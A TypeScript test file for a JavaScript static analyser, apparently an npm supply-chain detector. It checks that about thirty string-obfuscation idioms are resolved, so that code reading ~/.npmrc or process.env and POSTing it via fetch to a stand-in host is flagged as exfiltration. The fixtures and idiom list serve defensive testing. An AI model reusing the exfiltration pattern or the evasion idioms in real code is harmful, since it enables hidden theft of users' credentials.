import t from 'tap'
import { summariseJavascript } from '../../src/analysis/javascript/summarise.ts'

/** Ways to write a text so that it does not stand where it is used; `X` stands for the text. */
const IDIOMS: readonly string[] = [
  `String({ toString() { return 'X' } })`,
  '`${{ toString() { return "X" } }}`',
  `'' + { [Symbol.toPrimitive]() { return 'X' } }`,
  `'' + { valueOf() { return 'X' } }`,
  `Symbol('X').description`,
  `Symbol.keyFor(Symbol.for('X'))`,
  `Symbol('X').toString().slice(7, -1)`,
  `new Error('X').message`,
  `TypeError('X').message`,
  `String(new Error('X')).slice(7)`,
  `new Error('', { cause: 'X' }).cause`,
  `new AggregateError(['X']).errors[0]`,
  `(() => { try { throw new Error('X') } catch (e) { return e.message } })()`,
  `(() => { try { throw 'X' } catch (e) { return e } })()`,
  `Object.fromEntries([['a', 'X']]).a`,
  `Object.keys({ 'X': 1 })[0]`,
  `Object.getOwnPropertyDescriptor({ a: 'X' }, 'a').value`,
  `Object.groupBy(['X'], () => 'a').a[0]`,
  `structuredClone({ a: 'X' }).a`,
  `[...new Set(['X'])][0]`,
  `['a'].with(0, 'X')[0]`,
  `({ get a() { return 'X' } }).a`,
  '((s) => s[0])`X`',
  `'aXb'.replace(/[ab]/g, () => '')`,
  `'X'.toLocaleLowerCase()`,
  `/X/.source`,
  `String(/X/).slice(1, -1)`,
  `new RegExp('X').source`,
]

const SEND = `fetch('https://c.invalid/', { method: 'POST', body: `

function flowsOf(code: string): string[] {
  return summariseJavascript('a.mjs', code).flows.map(({ source, sink }) => `${source.kind} -> ${sink.kind}`)
}

t.test('texts that are written by idioms of the language are worked out', async (t) => {
  for (const idiom of IDIOMS) {
    const path = `import fs from 'fs'\nimport os from 'os'\nconst p = ${idiom.replace('X', '.npmrc')}\n`
    t.same(flowsOf(`${path}${SEND}fs.readFileSync(os.homedir() + '/' + p) })`), ['secret-file -> network'], idiom)
    const name = `const p = ${idiom.replace('X', 'env')}\n`
    t.same(flowsOf(`${name}${SEND}JSON.stringify(process[p]) })`), ['env -> network'], idiom)
    t.same(flowsOf(`${path.replace('.npmrc', 'notes')}${SEND}fs.readFileSync(os.homedir() + '/' + p) })`), [], idiom)
  }
})

t.test('a function is named by its name', async (t) => {
  for (const named of ['(function env() {}).name', '(class env {}).name'])
    t.same(flowsOf(`const p = ${named}\n${SEND}JSON.stringify(process[p]) })`), ['env -> network'], named)
})
